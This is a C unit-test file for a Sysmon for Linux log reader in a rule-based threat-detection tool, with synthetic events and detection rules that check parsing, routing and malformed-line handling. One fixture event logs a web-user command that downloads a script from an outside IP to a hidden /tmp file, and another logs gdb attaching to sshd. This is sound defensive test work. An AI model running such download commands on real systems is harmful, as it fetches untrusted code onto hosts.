/* Unit tests for the Sysmon for Linux reader (src/readers/sysmon_linux.c).
 *
 * The lines are written for these tests in the shape Sysmon for Linux gives
 * syslog and the journal, one per event id it emits (1, 3, 4, 5, 9, 10, 11,
 * 16, 23, 255), behind the prefixes rsyslog and journalctl put in front. Each
 * test hunts a small file with rules of the Linux logsources and checks the
 * fields (EVTX names), the routing (a rule sees only its category) and the
 * complaints about malformed lines.
 */
#include "testutil.h"

#include "reader_capture.h"
#include "readers/reader.h"

static struct stoat_ruleset *RS;

static const char RULES[] =
    "title: S proc curl\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\nlevel: low\n"
    "---\ntitle: S proc cmd amp\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n  sel:\n    CommandLine|contains: '&& echo \"ok\" <3'\n  condition: sel\nlevel: low\n"
    "---\ntitle: S net curl\nlogsource: {product: linux, category: network_connection}\n"
    "detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\nlevel: low\n"
    "---\ntitle: S file curl\nlogsource: {product: linux, category: file_event}\n"
    "detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\nlevel: low\n"
    "---\ntitle: S term curl\nlogsource: {product: linux, category: process_termination}\n"
    "detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\nlevel: low\n"
    "---\ntitle: S delete\nlogsource: {product: linux, category: file_delete}\n"
    "detection:\n  sel:\n    TargetFilename|startswith: /tmp/\n  condition: sel\nlevel: low\n"
    "---\ntitle: S any sysmon\nlogsource: {product: linux, service: sysmon}\n"
    "detection:\n  sel:\n    Provider_Name: Linux-Sysmon\n  condition: sel\nlevel: low\n";

static int setup(void **state)
{
    (void)state;
    RS = cap_rules(RULES);
    return RS ? 0 : -1;
}

static int teardown(void **state)
{
    (void)state;
    stoat_ruleset_destroy(RS);
    return 0;
}

#define SYS(eid, ver, task, rec, time)                                                                      \
    "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>"      \
    "<EventID>" eid "</EventID><Version>" ver "</Version><Level>4</Level><Task>" task "</Task>"             \
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"" time "\"/>"       \
    "<EventRecordID>" rec "</EventRecordID><Correlation/><Execution ProcessID=\"1187\" ThreadID=\"1187\"/>" \
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>design-srv01</Computer><Security UserId=\"0\"/>"  \
    "</System>"
#define D(n, v) "<Data Name=\"" n "\">" v "</Data>"
#define PG      "{5b1c3a1e-5c11-655a-f5a0-6c4b01000000}"

static const char EV1[] = SYS("1", "5", "1", "4411", "2026-11-19T21:37:05.123456000Z") "<EventData>" D("RuleName", "-")
    D("UtcTime", "2026-11-19 21:37:05.120") D("ProcessGuid", PG) D("ProcessId", "48211") D("Image", "/usr/bin/curl")
        D("FileVersion", "-") D("Description", "-") D("Product", "-") D("Company", "-") D("OriginalFileName", "-")
            D("CommandLine", "curl -s http://203.0.113.7/x.sh -o /tmp/.x &amp;&amp; echo &quot;ok&quot; &lt;3")
                D("CurrentDirectory", "/tmp") D("User", "www-data")
                    D("LogonGuid", "{5b1c3a1e-0000-0000-2100-000000000000}") D("LogonId", "33")
                        D("TerminalSessionId", "4294967295") D("IntegrityLevel", "no level") D("Hashes", "-")
                            D("ParentProcessGuid", "{5b1c3a1e-5b02-655a-c5b2-5b1101000000}")
                                D("ParentProcessId", "48190") D("ParentImage", "/usr/bin/dash")
                                    D("ParentCommandLine", "/bin/sh -c curl")
                                        D("ParentUser", "www-data") "</EventData></Event>";
static const char EV3[] = SYS("3", "5", "3", "4412", "2026-11-19T21:37:07.000001000Z") "<EventData>" D("RuleName", "-")
    D("UtcTime", "2026-11-19 21:37:06.998") D("ProcessGuid", PG) D("ProcessId", "48211") D("Image", "/usr/bin/curl")
        D("User", "www-data") D("Protocol", "tcp") D("Initiated", "true") D("SourceIsIpv6", "false")
            D("SourceIp", "10.1.2.3") D("SourceHostname", "-") D("SourcePort", "51512") D("SourcePortName", "-")
                D("DestinationIsIpv6", "false") D("DestinationIp", "203.0.113.7") D("DestinationHostname", "-")
                    D("DestinationPort", "80") D("DestinationPortName", "-") "</EventData></Event>";
static const char EV4[] =
    SYS("4", "3", "4", "1", "2026-11-19T21:30:00.000000000Z") "<EventData>" D("UtcTime", "2026-11-19 21:30:00.000")
        D("State", "Started") D("Version", "1.3.3") D("SchemaVersion", "4.81") "</EventData></Event>";
static const char EV5[] = SYS("5", "3", "5", "4414", "2026-11-19T21:37:09.000000000Z") "<EventData>" D("RuleName", "-")
    D("UtcTime", "2026-11-19 21:37:09.000") D("ProcessGuid", PG) D("ProcessId", "48211") D("Image", "/usr/bin/curl")
        D("User", "www-data") "</EventData></Event>";
static const char EV9[] = SYS("9", "2", "9", "4415", "2026-11-19T21:37:10.000000000Z") "<EventData>" D("RuleName", "-")
    D("UtcTime", "2026-11-19 21:37:10.000") D("ProcessGuid", PG) D("ProcessId", "5122") D("Image", "/usr/bin/dd")
        D("Device", "/dev/sda") D("User", "root") "</EventData></Event>";
static const char EV10[] =
    SYS("10", "3", "10", "4416", "2026-11-19T21:37:11.000000000Z") "<EventData>" D("RuleName", "-")
        D("UtcTime", "2026-11-19 21:37:11.000") D("SourceProcessGuid", PG) D("SourceProcessId", "5123")
            D("SourceThreadId", "5123") D("SourceImage", "/usr/bin/gdb")
                D("TargetProcessGuid", "{5b1c3a1e-0001-655a-0000-000000000000}") D("TargetProcessId", "612")
                    D("TargetImage", "/usr/sbin/sshd") D("GrantedAccess", "0x1F3FFF") D("CallTrace", "-")
                        D("SourceUser", "root") D("TargetUser", "root") "</EventData></Event>";
static const char EV11[] = SYS("11", "2", "11", "4417", "2026-11-19T21:37:08.5Z") "<EventData>" D("RuleName", "-")
    D("UtcTime", "2026-11-19 21:37:08.500") D("ProcessGuid", PG) D("ProcessId", "48211") D("Image", "/usr/bin/curl")
        D("TargetFilename", "/tmp/.x") D("CreationUtcTime", "2026-11-19 21:37:08.500")
            D("User", "www-data") "</EventData></Event>";
static const char EV16[] =
    SYS("16", "3", "16", "2", "2026-11-19T21:30:00.100000000Z") "<EventData>" D("UtcTime", "2026-11-19 21:30:00.100")
        D("Configuration", "/opt/sysmon/config.xml") D("ConfigurationFileHash", "-") "</EventData></Event>";
static const char EV23[] =
    SYS("23", "5", "23", "4418", "2026-11-19T21:37:12.000000000Z") "<EventData>" D("RuleName", "-")
        D("UtcTime", "2026-11-19 21:37:12.000") D("ProcessGuid", PG) D("ProcessId", "5124") D("User", "www-data")
            D("Image", "/usr/bin/rm") D("TargetFilename", "/tmp/.x") D("Hashes", "-") D("IsExecutable", "false")
                D("Archived", "false") "</EventData></Event>";
static const char EV255[] = SYS("255", "3", "255", "4419",
                                "2026-11-19T21:37:13.000000000Z") "<EventData>" D("UtcTime", "2026-11-19 21:37:13.000")
    D("ID", "EBPF_LOAD") D("Description", "Failed to open &#x2F;sys&#47;kernel&apos;s debug fs") "</EventData></Event>";

static char *build(const char *const *lines, size_t n)
{
    size_t len = 1;
    for (size_t i = 0; i < n; i++)
        len += strlen(lines[i]) + 1;
    char *o = malloc(len), *p = o;
    for (size_t i = 0; i < n; i++) {
        size_t l = strlen(lines[i]);
        memcpy(p, lines[i], l);
        p += l;
        *p++ = '\n';
    }
    *p = 0;
    return o;
}

static void hunt(struct capture *c, const char *text)
{
    cap_run(c, RS, text, strlen(text), NULL, 1);
}

/* Every event id behind every prefix: syslog, RFC 3339 syslog, journalctl
 * -o short (with a pid) and -o cat (none). Other programs' lines between. */
static void test_all_events_all_prefixes(void **state)
{
    (void)state;
    static const char *const ev[] = {EV1, EV3, EV4, EV5, EV9, EV10, EV11, EV16, EV23, EV255};
    static const char *const pre[] = {
        "Nov 19 21:37:05 design-srv01 sysmon: ", "2026-11-19T21:37:05.123456+00:00 design-srv01 sysmon: ",
        "Nov 19 21:37:05 design-srv01 sysmon[1187]: ", ""};
    char *lines[64];
    size_t n = 0;
    for (size_t p = 0; p < 4; p++) {
        for (size_t i = 0; i < 10; i++) {
            size_t l = strlen(pre[p]) + strlen(ev[i]) + 1;
            lines[n] = malloc(l);
            snprintf(lines[n], l, "%s%s", pre[p], ev[i]);
            n++;
        }
        lines[n++] = strdup("Nov 19 21:37:06 design-srv01 systemd[1]: Started Session 12 of user alice.");
    }
    char *text = build((const char *const *)lines, n);
    struct capture c;
    hunt(&c, text);
    assert_int_equal(cap_count(&c, "Linux-Sysmon/Operational", NULL), 40);
    assert_int_equal(c.ndiag, 0); /* other programs' lines are not complaints */
    static const char *const ids[] = {"1", "3", "4", "5", "9", "10", "11", "16", "23", "255"};
    for (size_t i = 0; i < 10; i++)
        assert_int_equal(cap_count(&c, "Linux-Sysmon/Operational", ids[i]), 4);
    /* routing: a rule of each category fires on its event id only */
    assert_int_equal(cap_alerts(&c, "S proc curl"), 4);
    assert_int_equal(cap_alerts(&c, "S net curl"), 4);
    assert_int_equal(cap_alerts(&c, "S file curl"), 4);
    assert_int_equal(cap_alerts(&c, "S term curl"), 4);
    assert_int_equal(cap_alerts(&c, "S delete"), 4);
    assert_int_equal(cap_alerts(&c, "S any sysmon"), 40);
    assert_true(ev_fired(cap_find(&c, NULL, "1", 0), "S proc curl"));
    assert_false(ev_fired(cap_find(&c, NULL, "3", 0), "S proc curl"));
    /* line numbers of the events: 11 lines per prefix */
    assert_int_equal(cap_find(&c, NULL, "1", 1)->line, 12);
    for (size_t i = 0; i < n; i++)
        free(lines[i]);
    free(text);
    cap_free(&c);
}

/* EVTX field names, entities and character references decoded. */
static void test_fields(void **state)
{
    (void)state;
    char *text = build((const char *const[]){EV1, EV255}, 2);
    struct capture c;
    hunt(&c, text);
    const struct cap_event *e = cap_find(&c, "Linux-Sysmon/Operational", "1", 0);
    assert_non_null(e);
    assert_str(e->format, "sysmon-linux");
    assert_str(ev_get(e, "Provider_Name", 0), "Linux-Sysmon");
    assert_str(ev_get(e, "Provider_Guid", 0), "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}");
    assert_str(ev_get(e, "TimeCreated_SystemTime", 0), "2026-11-19T21:37:05.123456000Z");
    assert_str(ev_get(e, "Execution_ProcessID", 0), "1187");
    assert_str(ev_get(e, "Security_UserId", 0), "0");
    assert_str(ev_get(e, "Computer", 0), "design-srv01");
    assert_str(ev_get(e, "EventRecordID", 0), "4411");
    assert_str(ev_get(e, "Correlation", 0), ""); /* an empty leaf */
    assert_null(ev_get(e, "Provider", 0));       /* attributes only */
    assert_null(ev_get(e, "Data", 0));
    assert_str(ev_get(e, "CommandLine", 0), "curl -s http://203.0.113.7/x.sh -o /tmp/.x && echo \"ok\" <3");
    assert_str(ev_get(e, "ParentImage", 0), "/usr/bin/dash");
    assert_true(ev_fired(e, "S proc cmd amp"));
    const struct cap_event *x = cap_find(&c, NULL, "255", 0);
    assert_str(ev_get(x, "Description", 0), "Failed to open /sys/kernel's debug fs");
    cap_free(&c);
    free(text);
}

/* Malformed lines: reported with their line, skipped; the events around them
 * kept. */
static void test_malformed(void **state)
{
    (void)state;
    static const char *const bad[] = {
        /* truncated by a syslog daemon's message size */
        "Nov 19 21:37:05 h sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><Version>5</Version>",
        "<Event><System><EventID>1</Channel></System></Event>",                            /* mismatched */
        "<Event><System><EventID a=1>1</EventID></System></Event>",                        /* unquoted */
        "<Event><System><EventID>1&bogus;</EventID></System></Event>",                     /* bad entity */
        "<Event><System><EventID>&#0;</EventID></System></Event>",                         /* NUL reference */
        "<Event><!-- hi --><System/></Event>",                                             /* comment */
        "<Event><a><b><c><d><e><f><g><h><i>x</i></h></g></f></e></d></c></b></a></Event>", /* too deep */
        "<Event><System><X a=\"1\" b=\"2\" c=\"3\" d=\"4\" e=\"5\" f=\"6\" g=\"7\" h=\"8\" i=\"9\" j=\"10\" "
        "k=\"11\" l=\"12\" m=\"13\" n=\"14\" o=\"15\" p=\"16\" q=\"17\"/></System></Event>", /* attributes */
        "<Event><System>text<EventID>1</EventID>more</System></Event>",                      /* mixed content */
        "<Event>",                                                                           /* unclosed */
        "<Event ><System></System></Event> trailing",                                        /* fine: trailing text */
    };
    char *lines[32];
    size_t n = 0;
    lines[n++] = strdup(EV1);
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        lines[n++] = strdup(bad[i]);
    lines[n++] = strdup(EV3);
    char *text = build((const char *const *)lines, n);
    struct capture c;
    hunt(&c, text);
    for (uint64_t line = 2; line <= 11; line++)
        assert_non_null(cap_diag(&c, line, "error", "malformed Sysmon event"));
    assert_non_null(cap_diag(&c, 2, "error", "not closed"));
    assert_non_null(cap_diag(&c, 3, "error", "does not match"));
    assert_non_null(cap_diag(&c, 5, "error", "entity"));
    assert_non_null(cap_diag(&c, 8, "error", "deeper"));
    assert_int_equal(c.ndiag, 10);
    assert_int_equal(c.st.skipped, 10);
    assert_int_equal(cap_count(&c, NULL, NULL), 3);
    assert_non_null(cap_find(&c, "Linux-Sysmon/Operational", "1", 0));
    assert_non_null(cap_find(&c, "Linux-Sysmon/Operational", "3", 0));
    for (size_t i = 0; i < n; i++)
        free(lines[i]);
    free(text);
    cap_free(&c);
}

static void test_long_line(void **state)
{
    (void)state;
    size_t big = (1u << 20) + 100;
    size_t len = strlen(EV1) + big + strlen(EV3) + 8;
    char *text = malloc(len);
    size_t n = 0;
    memcpy(text + n, EV1, strlen(EV1));
    n += strlen(EV1);
    text[n++] = '\n';
    memset(text + n, 'x', big);
    n += big;
    text[n++] = '\n';
    memcpy(text + n, EV3, strlen(EV3));
    n += strlen(EV3);
    text[n++] = '\n';
    struct capture c;
    cap_run(&c, RS, text, n, NULL, 2);
    assert_int_equal(cap_count(&c, NULL, NULL), 2);
    assert_non_null(cap_diag(&c, 2, "error", "longer than"));
    assert_int_equal(cap_find(&c, NULL, "3", 0)->line, 3);
    free(text);
    cap_free(&c);
}

static void test_probe(void **state)
{
    (void)state;
    char head[4096];
    /* syslog with a Sysmon line after other lines */
    snprintf(head, sizeof(head), "Nov 19 21:37:04 h systemd[1]: Starting.\nNov 19 21:37:05 h sysmon: %s\n", EV1);
    assert_ptr_equal(reader_detect((const unsigned char *)head, strlen(head)), &reader_sysmon_linux);
    /* the head ends inside the event */
    assert_ptr_equal(reader_detect((const unsigned char *)head, 400), &reader_sysmon_linux);
    /* journalctl -o cat */
    assert_ptr_equal(reader_detect((const unsigned char *)EV3, strlen(EV3)), &reader_sysmon_linux);
    /* syslog without Sysmon */
    const char *plain = "Nov 19 21:37:04 h systemd[1]: Starting.\nNov 19 21:37:05 h sshd[2]: Accepted key\n";
    assert_null(reader_detect((const unsigned char *)plain, strlen(plain)));
    /* Windows Sysmon XML is not Sysmon for Linux */
    const char *win = "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/></System></Event>\n";
    assert_null(reader_detect((const unsigned char *)win, strlen(win)));
    /* JSON holding the XML stays JSON */
    snprintf(head, sizeof(head), "{\"MESSAGE\":\"%s\"}\n", "<Event><System><Provider Name=\\\"Linux-Sysmon\\\"/>");
    assert_ptr_equal(reader_detect((const unsigned char *)head, strlen(head)), &reader_json);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_all_events_all_prefixes),
        cmocka_unit_test(test_fields),
        cmocka_unit_test(test_malformed),
        cmocka_unit_test(test_long_line),
        cmocka_unit_test(test_probe),
    };
    return cmocka_run_group_tests_name("sysmon_linux", tests, setup, teardown);
}
